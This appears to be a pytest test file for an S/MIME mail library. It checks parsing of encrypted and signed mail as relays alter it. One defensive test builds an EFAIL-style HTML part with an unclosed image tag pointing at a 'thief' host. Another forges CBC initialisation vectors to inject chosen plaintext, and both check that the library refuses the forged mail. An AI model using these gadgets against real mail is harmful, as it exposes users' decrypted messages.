"""The same S/MIME mail in every way that programs write it and relays leave it."""

import quopri
from base64 import b64encode
from collections.abc import Callable

import pytest

from certificates.smime import DecryptionError, OpenedMail, SignatureError, encrypt, sign
from certificates.smime.mime import encode_body, split
from tests.certificates.smime import forge
from tests.certificates.smime.conftest import BODY, ENTITY, Peer, identity_of
from tests.pki import Authority

Open = Callable[[bytes], OpenedMail]
FROM = b"From: alice@example.com\r\n"


@pytest.fixture(scope="session")
def der(pki: Authority) -> bytes:
    key = b"k" * 32
    info = forge.recipient_info(pki.service, forge.wrap_key(pki.service, key))
    return forge.enveloped_data([info], b"Content-Type: text/plain\r\n\r\n" + BODY, key)


def mail(headers: str, body: bytes, encoding: str = "base64") -> bytes:
    return FROM + f"{headers}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n".encode() + body


def is_read(opened: Open, raw: bytes) -> bool:
    found = opened(raw)
    return found.encrypted and split(found.message)[1] == BODY


# --- how the layer is named

_NAMES = [
    'Content-Type: application/octet-stream; name="smime.p7m"',
    "Content-Type: application/octet-stream; name=SMIME.P7M",
    'Content-Type: application/octet-stream;\r\n\tname="smime.p7m "',
    "Content-Type: application/octet-stream; name*=us-ascii''smime%2Ep7m",
    'Content-Type: application/octet-stream; name*0="smime"; name*1=".p7m"',
    'Content-Type: application/octet-stream; name="=?utf-8?B?c21pbWUucDdt?="',
    'Content-Type: application/octet-stream; name="=?iso-2022-jp?B?GyRCMEU5ZhsoQi5wN20=?="',
    'Content-Type: application/octet-stream; name="=?utf-8?B?A?=.p7m"',
    "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=smime.p7m",
    "Content-Type: application/octet-stream\r\nContent-Disposition: inline;\r\n filename*=UTF-8''%E6%9A%97.p7m",
    "Content-Type: application/octet-stream; name=x.dat\r\nContent-Disposition: attachment; filename=smime.p7m",
]


@pytest.mark.parametrize("headers", _NAMES)
def test_an_envelope_of_no_particular_type_is_known_by_its_name(
    der: bytes, opened: Open, headers: str
) -> None:
    assert is_read(opened, mail(headers, encode_body(der)))


@pytest.mark.parametrize(
    "headers",
    [
        "Content-Type: application/octet-stream; name=smime.p7m.pdf",
        "Content-Type: application/octet-stream; name==?utf-8?B?c21pbWUucDdt",
        'Content-Type: application/octet-stream; name="=?no-such-charset?B?c21pbWUucDdt?="',
        "Content-Type: application/pdf; name=smime.p7m",
        "Content-Disposition: attachment; filename=smime.p7m",
    ],
)
def test_any_other_name_or_type_is_an_attachment(der: bytes, opened: Open, headers: str) -> None:
    raw = mail(headers, encode_body(der))
    assert opened(raw) == OpenedMail(raw, False, None, (), None)


@pytest.mark.parametrize(
    "headers",
    [
        "Content-Type: application/pkcs7-mime",
        "Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data",
        "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=x",
        "content-type :\r\n Application/PKCS7-MIME\r\n ;smime-type=Signed-Data",
        "Content-Type: application/pkcs7-mime; (comment) name=smime.p7m",
        "Content-Type: application/pkcs7-mime; name=smime.p7m;",
    ],
)
def test_the_type_decides_and_the_structure_says_what_it_is(der: bytes, opened: Open, headers: str) -> None:
    assert is_read(opened, mail(headers, encode_body(der)))


# --- how it is encoded


@pytest.mark.parametrize("encoding", ["binary", "8bit", "7bit", "x-unknown", "BINARY "])
def test_a_body_may_stand_as_it_is(der: bytes, opened: Open, encoding: str) -> None:
    assert is_read(opened, mail("Content-Type: application/pkcs7-mime", der, encoding))
    assert is_read(opened, mail("Content-Type: application/pkcs7-mime", der + b"\r\n\0", encoding))


def test_quoted_printable_is_undone(der: bytes, opened: Open) -> None:
    body = quopri.encodestring(der)
    assert is_read(opened, mail("Content-Type: application/pkcs7-mime", body, "Quoted-Printable"))


def _lines(text: bytes, end: bytes) -> bytes:
    return end.join(text[i : i + 76] for i in range(0, len(text), 76))


@pytest.mark.parametrize(
    "relayed",
    [
        pytest.param(lambda text: text, id="one line"),
        pytest.param(lambda text: _lines(text, b"\n") + b"\n\n\n", id="LF, blank lines behind"),
        pytest.param(lambda text: b"\r\n\r\n" + _lines(text, b"\r\n"), id="blank lines before"),
        pytest.param(lambda text: _lines(text, b"\r\n\r\n"), id="blank lines between"),
        pytest.param(lambda text: _lines(text, b"\r\n\t"), id="indented"),
        pytest.param(lambda text: _lines(text, b" \n") + b"  ", id="blanks behind"),
        pytest.param(lambda text: _lines(text, b"\r"), id="CR"),
        pytest.param(lambda text: text.rstrip(b"="), id="no padding"),
        pytest.param(lambda text: text.rstrip(b"=") + b"=", id="some padding"),
    ],
)
@pytest.mark.parametrize("zeros", [0, 1, 2])
def test_base64_may_be_folded_otherwise_and_lack_its_padding(
    der: bytes, opened: Open, relayed: Callable[[bytes], bytes], zeros: int
) -> None:
    raw = mail("Content-Type: application/pkcs7-mime", relayed(b64encode(der + b"\0" * zeros)))
    assert is_read(opened, raw)


@pytest.mark.parametrize(
    "broken",
    [
        pytest.param(lambda text: text + b"\r\n-- \r\nThis list has a footer\r\n", id="footer"),
        pytest.param(lambda text: text[:50] + b"*" + text[50:], id="foreign character"),
        pytest.param(lambda text: text[:50] + b"=" + text[50:], id="padding within"),
        pytest.param(lambda text: b"A" + text, id="a character more"),
        pytest.param(lambda text: text[:40], id="cut off"),
        pytest.param(lambda _: b"", id="empty"),
        pytest.param(lambda text: b"-----BEGIN PKCS7-----\n" + text, id="PEM"),
    ],
)
def test_base64_with_anything_else_in_it_is_refused(
    der: bytes, opened: Open, broken: Callable[[bytes], bytes]
) -> None:
    with pytest.raises(DecryptionError):
        opened(mail("Content-Type: application/pkcs7-mime", broken(b64encode(der))))


# --- multipart/signed


@pytest.fixture(scope="session")
def signed(pki: Authority) -> bytes:
    content = b"Content-Type: text/plain\r\n\r\nhello \r\n\r\n\r\n"
    signer = forge.signer_info(pki.alice, forge.usual_attributes(content))
    return forge.multipart_signed(content, forge.signed_data([signer], forge.bag(pki.alice)))


def is_verified(opened: Open, raw: bytes) -> bool:
    found = opened(raw)
    body = split(found.message)[1].replace(b"\r\n", b"\n")
    return found.signature is not None and found.signature.valid and body == b"hello \n\n\n"


def _parameter(value: str) -> Callable[[bytes], bytes]:
    boundary = value.strip('"').encode()
    return lambda raw: raw.replace(b"boundary=XX", b"boundary=" + value.encode()).replace(
        b"--XX", b"--" + boundary
    )


@pytest.mark.parametrize(
    "relayed",
    [
        pytest.param(lambda raw: raw, id="as sent"),
        pytest.param(lambda raw: raw.replace(b"\r\n", b"\n"), id="LF"),
        pytest.param(lambda raw: raw.replace(b"hello \r\n", b"hello \n"), id="mixed"),
        pytest.param(lambda raw: raw.replace(b"; boundary", b";\r\n\t boundary"), id="folded again"),
        pytest.param(lambda raw: raw.replace(b"; protocol", b";protocol"), id="blanks gone"),
        pytest.param(_parameter("----=_Part_1_2.3"), id="no quotes"),
        pytest.param(_parameter('"a b?=:()"'), id="quotes needed"),
        pytest.param(_parameter("'a'"), id="other quotes"),
        pytest.param(lambda raw: raw.replace(b"=XX", b"*=utf-8''X%58; x=\""), id="RFC 2231"),
        pytest.param(lambda raw: raw.replace(b"=XX", b'="XX "'), id="blank in the parameter"),
        pytest.param(lambda raw: raw.replace(b"--XX", b"preamble\r\n--XXY\r\n\r\n--XX", 1), id="preamble"),
        pytest.param(lambda raw: raw.replace(b"--XX\r\n", b"--XX \t \r\n"), id="blanks behind"),
        pytest.param(lambda raw: raw + b"\r\n \r\n\t\r\n", id="blank lines behind"),
        pytest.param(lambda raw: raw.removesuffix(b"\r\n"), id="no last line end"),
        pytest.param(lambda raw: raw.replace(b"pkcs7-sig", b"x-pkcs7-sig"), id="x- types"),
        pytest.param(lambda raw: b"Subject: =?utf-8?B?4pyT?=\r\n\tx\r\n" + raw, id="more headers"),
    ],
)
def test_a_clear_signed_mail_survives_relays(
    opened: Open, signed: bytes, relayed: Callable[[bytes], bytes]
) -> None:
    assert is_verified(opened, relayed(signed))


@pytest.mark.parametrize(
    "relayed",
    [
        pytest.param(lambda raw: raw.replace(b"hello \r\n", b"hello\r\n"), id="blank gone"),
        pytest.param(lambda raw: raw.replace(b"\r\n\r\n\r\n--XX", b"\r\n\r\n--XX"), id="blank line gone"),
        pytest.param(lambda raw: raw.replace(b"text/plain", b"text/html"), id="inner header"),
    ],
)
def test_what_was_signed_is_exact_to_the_blank(
    opened: Open, signed: bytes, relayed: Callable[[bytes], bytes]
) -> None:
    with pytest.raises(SignatureError, match="signature does not match the content"):
        opened(relayed(signed))


@pytest.mark.parametrize("blanks", [5_000, 50_000])
def test_a_line_that_goes_on_is_no_boundary(opened: Open, signed: bytes, blanks: int) -> None:
    assert opened(signed.replace(b"--XX--", b"--XX--" + b" " * blanks)).signature is None


def test_lines_that_begin_like_the_boundary_are_counted(opened: Open, signed: bytes) -> None:
    assert is_verified(opened, signed.replace(b"--XX", b"--XXX\r\n" * 9_000 + b"--XX", 1))
    assert opened(signed.replace(b"--XX", b"--XXX\r\n" * 10_000 + b"--XX", 1)).signature is None


# --- layers of different makers


@pytest.mark.parametrize("options", [(), ("-nodetach",), ("-nodetach", "-stream")])
def test_three_layers_of_openssl_are_opened(
    peer: Peer, pki: Authority, opened: Open, options: tuple[str, ...]
) -> None:
    inner = peer.sign(ENTITY, pki.alice, options=options, headers=False)
    sealed = peer.encrypt(inner, pki.service, headers=False)
    found = opened(peer.sign(sealed, pki.alice, options=options))
    assert found.encrypted
    assert found.signature is not None
    assert found.signature.valid
    assert split(found.message)[1] == BODY


def _list_footer(part: bytes) -> bytes:
    return (
        b"--L\r\n"
        + part
        + b"\r\n--L\r\nContent-Type: text/plain\r\n\r\nA list, fax 03-9999-9999\r\n--L--\r\n"
    )


def _stolen(part: bytes) -> bytes:
    return (
        b'--L\r\nContent-Type: text/html\r\n\r\n<img src="http://thief/\r\n--L\r\n' + part + b"\r\n--L--\r\n"
    )


@pytest.mark.parametrize("around", [_list_footer, _stolen, lambda part: b"--L\r\n" + part + b"\r\n--L--\r\n"])
@pytest.mark.parametrize("kind", ["mixed", "related", "alternative", "signed", "encrypted", "x"])
def test_a_part_of_a_foreign_multipart_is_neither_decrypted_nor_believed(
    pki: Authority, opened: Open, around: Callable[[bytes], bytes], kind: str
) -> None:
    """The first way of EFAIL, and what mailing lists do."""
    for part in (encrypt(ENTITY, pki.service.certificate), sign(ENTITY, identity_of(pki.alice))):
        raw = FROM + f"Content-Type: multipart/{kind}; boundary=L\r\n\r\n".encode() + around(part)
        assert opened(raw) == OpenedMail(raw, False, None, (), None)


def test_an_enclosed_mail_is_not_opened(pki: Authority, opened: Open) -> None:
    raw = FROM + b"Content-Type: message/rfc822\r\n\r\n" + FROM + encrypt(ENTITY, pki.service.certificate)
    assert not opened(raw).encrypted


def test_blocks_that_were_shifted_are_no_entity(pki: Authority, opened: Open) -> None:
    """The second way of EFAIL: known first block, chosen text, then noise."""
    key, known = b"k" * 32, b"Content-Type: te"
    der = forge.enveloped_data(
        [forge.recipient_info(pki.service, forge.wrap_key(pki.service, key))],
        known + b"xt/plain\r\n\r\n" + BODY,
        key,
    )
    start = der.index(b"\x04\x10", der.rindex(bytes.fromhex("60864801650304012a"))) + 2
    iv = der[start : start + 16]
    for wanted in (b"X: y\r\nSubject: 0", b"\n!*0699999999*!\n", b"a:\n\n!*003912*!;;"):
        forged_iv = bytes(a ^ b ^ c for a, b, c in zip(iv, known, wanted, strict=True))
        forged = der[:start] + forged_iv + der[start + 16 :]
        with pytest.raises(DecryptionError):
            opened(forge.p7m(forged))
    content = forged[-48:]
    doubled = forge.enveloped_data(
        [forge.recipient_info(pki.service, forge.wrap_key(pki.service, key))],
        b"",
        key,
        ciphertext=bytes(range(16)) + content,
    )
    with pytest.raises(DecryptionError):
        opened(forge.p7m(doubled))


CONTENT_TYPE = b"Content-Type: text/plain\r\n"


@pytest.mark.parametrize(
    "noise", [b"\x93\xfa\x96\x7b", b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\x7f", b"\0"]
)
def test_a_header_with_noise_was_not_decrypted(pki: Authority, opened: Open, noise: bytes) -> None:
    with pytest.raises(DecryptionError):
        opened(FROM + encrypt(CONTENT_TYPE + b"X: " + noise + b"\r\n\r\nhello", pki.service.certificate))
    assert opened(
        FROM + encrypt(CONTENT_TYPE + "X: 本文\r\n\r\nhello".encode(), pki.service.certificate)
    ).encrypted
